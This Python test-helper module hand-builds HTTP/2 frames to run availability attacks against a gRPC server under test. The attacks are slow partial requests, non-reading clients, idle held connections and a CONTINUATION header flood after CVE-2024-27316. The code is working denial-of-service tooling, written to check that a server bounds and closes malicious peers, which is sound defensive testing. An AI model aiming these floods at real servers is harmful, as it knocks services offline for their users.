"""Hand-built HTTP/2 frames for the availability attacks (scripts/slow_peers.py and the
tests): a gRPC call's HEADERS and part of its request, sent on a plain socket, as a slow
or malicious client would. Only what the attacks need: no HPACK table, no Huffman, no
flow control (the attacks send less than one window)."""

from __future__ import annotations

import socket
import struct
import threading
from typing import Iterable, List, Optional, Set, Tuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


#: The HTTP/2 client connection preface and an empty SETTINGS frame: a handshake that
#: completes, after which a socket that sends nothing more holds a connection open.
PREFACE_AND_SETTINGS = PREFACE + frame(SETTINGS, 0, 0)
#: SETTINGS with the ACK flag: acknowledges the server's settings (a peer that does not
#: is also closed by the settings timeout, after 20 s; one that does only by the idle time).
SETTINGS_ACK = frame(SETTINGS, ACK, 0)


def _hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def header_block(headers: Iterable[Tuple[str, str]]) -> bytes:
    """HPACK "literal header field without indexing, new name" for each header."""
    out = bytearray()
    for name, value in headers:
        n, v = name.encode(), value.encode()
        out += b"\x00" + _hpack_int(len(n), 7) + n + _hpack_int(len(v), 7) + v
    return bytes(out)


def _call_block(path: str, authority: str, extra: Iterable[Tuple[str, str]] = ()) -> bytes:
    return header_block(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *extra,
        ]
    )


def call_headers(
    stream: int, path: str, authority: str, end_stream: bool = False, extra: Iterable[Tuple[str, str]] = ()
) -> bytes:
    """A call's HEADERS frame (``extra``: more headers, e.g. ``grpc-encoding``)."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, _call_block(path, authority, extra))


#: A CONTINUATION frame's payload for the flood: 16 KiB (the most a frame may carry under
#: the default SETTINGS_MAX_FRAME_SIZE), either small complete header fields (``x-c: v``
#: literals without indexing) or bytes of one header value that never ends.
CONTINUATION_FIELDS = header_block([("x-c", "v")]) * (16384 // len(header_block([("x-c", "v")])))
CONTINUATION_VALUE = b"v" * 16384
#: The start of a header field whose value announces 1 GiB: every CONTINUATION frame
#: after it is more of that one value.
ENDLESS_FIELD = b"\x00" + _hpack_int(3, 7) + b"x-c" + _hpack_int(1 << 30, 7)


def grpc_message(body: bytes, announced: Optional[int] = None, compressed: bool = False) -> bytes:
    """A gRPC length-prefixed message: ``announced`` bytes promised, ``body`` sent
    (``compressed``: flagged as compressed with the call's grpc-encoding)."""
    return bytes((int(compressed),)) + struct.pack(">I", len(body) if announced is None else announced) + body


def established_peer_ports(port: int) -> List[int]:
    """The client port of each established TCP connection to local ``port`` on this
    machine, one entry per connection (/proc/net/tcp and tcp6; empty where there is no
    /proc). Its length counts the connections; clients on different addresses may share a
    port, so the ports alone (:func:`peer_ports`) may count fewer."""
    out: List[int] = []
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as fh:
                lines = fh.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            if f[3] == "01" and int(f[1].rsplit(":", 1)[1], 16) == port:
                out.append(int(f[2].rsplit(":", 1)[1], 16))
    return out


def peer_ports(port: int) -> Set[int]:
    """Client ports of the established TCP connections to local ``port`` on this machine
    (/proc/net/tcp and tcp6; empty where there is no /proc): which connections a server
    under test keeps, seen from outside it."""
    return set(established_peer_ports(port))


class RawConnection:
    """A client connection speaking HTTP/2 by hand: preface, SETTINGS, and calls whose
    request is cut short. A reader thread acknowledges the server's SETTINGS and answers
    its PINGs (as a live but malicious client does) and notes the streams the server
    ended and its GOAWAY."""

    def __init__(
        self, host: str, port: int, source: Optional[str] = None, timeout: float = 10.0, window: Optional[int] = None
    ):
        """``window``: the SETTINGS_INITIAL_WINDOW_SIZE this client announces (0: the
        server may send no answer bytes: a client that never reads)."""
        self.sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        if source:
            self.sock.bind((source, 0))
        self.sock.connect((host, port))
        self.authority = f"{host}:{port}"
        self.next_stream = 1
        self.ended: set = set()  # streams the server ended (trailers or RST_STREAM)
        self.goaway = False
        self.answered: set = set()  # streams the server sent answer HEADERS on
        self.closed = threading.Event()
        self._lock = threading.Lock()
        #: connection-level send window (the server's WINDOW_UPDATEs on stream 0)
        self.credit = 65535
        self._credit = threading.Condition()
        settings = b"" if window is None else struct.pack(">HI", 0x4, window)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def send(self, data: bytes) -> bool:
        try:
            with self._lock:
                self.sock.sendall(data)
            return True
        except OSError:
            return False

    def _read(self) -> None:
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9 : 9 + length]
                    buf = buf[9 + length :]
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                        self.ended.add(stream)
                    elif kind == HEADERS:
                        self.answered.add(stream)
                    elif kind == WINDOW_UPDATE and stream == 0 and len(payload) == 4:
                        with self._credit:
                            self.credit += int.from_bytes(payload, "big") & 0x7FFFFFFF
                            self._credit.notify_all()
                    elif kind == GOAWAY:
                        self.goaway = True
        except OSError:
            pass
        finally:
            self.closed.set()
            with self._credit:
                self._credit.notify_all()

    def call(
        self,
        path: str,
        body: bytes,
        wait: float = 30.0,
        extra: Iterable[Tuple[str, str]] = (),
        compressed: bool = False,
    ) -> int:
        """A complete call of one request message ``body`` (DATA frames of at most 16 KiB,
        sent within the connection's send window, waiting at most ``wait`` seconds for
        it); its stream id, 0 when it could not be sent. The request must fit the
        stream's initial window (64 KiB)."""
        data = grpc_message(body, compressed=compressed)
        with self._credit:
            if not self._credit.wait_for(lambda: self.credit >= len(data) or self.closed.is_set(), wait):
                return 0
            if self.closed.is_set():
                return 0
            self.credit -= len(data)
        stream = self.next_stream
        self.next_stream += 2
        out = bytearray(call_headers(stream, path, self.authority, extra=extra))
        for i in range(0, len(data), 16384):
            last = i + 16384 >= len(data)
            out += frame(DATA, END_STREAM if last else 0, stream, data[i : i + 16384])
        return stream if self.send(bytes(out)) else 0

    def open_slow_calls(self, n: int, path: str, announced: int = 1000, sent: int = 10) -> int:
        """``n`` calls on new streams: HEADERS, then a DATA frame with the first ``sent``
        of the ``announced`` request bytes, and nothing more. The number sent."""
        out = bytearray()
        for _ in range(n):
            stream = self.next_stream
            self.next_stream += 2
            out += call_headers(stream, path, self.authority)
            out += frame(DATA, 0, stream, grpc_message(b"\x0a" * sent, announced))
        return n if self.send(bytes(out)) else 0

    def open_continuation_flood(self, path: str, frames: int, endless_value: bool = True) -> bool:
        """A call's HEADERS without END_HEADERS, then ``frames`` CONTINUATION frames, none
        ending the header block (the CONTINUATION flood, CVE-2024-27316's pattern): with
        ``endless_value`` the block's last field announces a 1 GiB value and the frames
        carry its bytes, else they carry small complete fields. A server must bound what
        it keeps of a header block that never ends. Call again to send more on the same
        stream; False once the server closed the connection."""
        out = bytearray()
        if not getattr(self, "_flood_stream", 0):
            self._flood_stream = self.next_stream
            self.next_stream += 2
            block = _call_block(path, self.authority) + (ENDLESS_FIELD if endless_value else b"")
            out += frame(HEADERS, 0, self._flood_stream, block)
        payload = CONTINUATION_VALUE if endless_value else CONTINUATION_FIELDS
        out += frame(CONTINUATION, 0, self._flood_stream, payload) * frames
        return self.send(bytes(out))

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def closed_by_peer(s: socket.socket) -> bool:
    """Whether the peer closed ``s``, without waiting (reads and drops what it sent first,
    e.g. a server's HTTP/2 settings). Puts ``s`` in non-blocking mode: with a timeout set,
    Python waits for data before even a MSG_DONTWAIT read. (The slow-peer tests and
    scripts/slow_peers.py watch their flood sockets with it.)"""
    s.setblocking(False)
    while True:
        try:
            if s.recv(65536) == b"":
                return True
        except BlockingIOError:
            return False
        except OSError:
            return True
